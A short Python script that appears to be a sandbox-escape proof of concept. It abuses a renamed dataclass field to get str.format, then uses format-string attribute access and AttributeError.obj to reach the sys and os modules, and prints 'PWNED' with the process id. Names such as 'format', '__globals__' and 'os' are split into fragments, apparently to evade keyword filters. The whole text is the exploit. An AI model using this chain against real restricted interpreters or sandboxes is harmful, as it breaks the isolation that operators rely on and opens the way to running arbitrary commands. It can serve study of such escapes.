import dataclasses, typing
# dataclasses.asdict reads each field with the library's own getattr(obj, f.name); a Field's
# name is writable after the class is made, and the instance is a str subclass.
@dataclasses.dataclass
class D(str):
    x: int = 0
f = dataclasses.fields(D)[0]
f.name = "for" + "mat"
fm = dataclasses.asdict(D("{0.__glo" + "bals__[s" + "ys].zz}"))["for" + "mat"]
got = None
try:
    fm(typing.cast)
except AttributeError as e:
    got = e.obj
print("PW" + "NED", got.modules["o" + "s"].getpid())
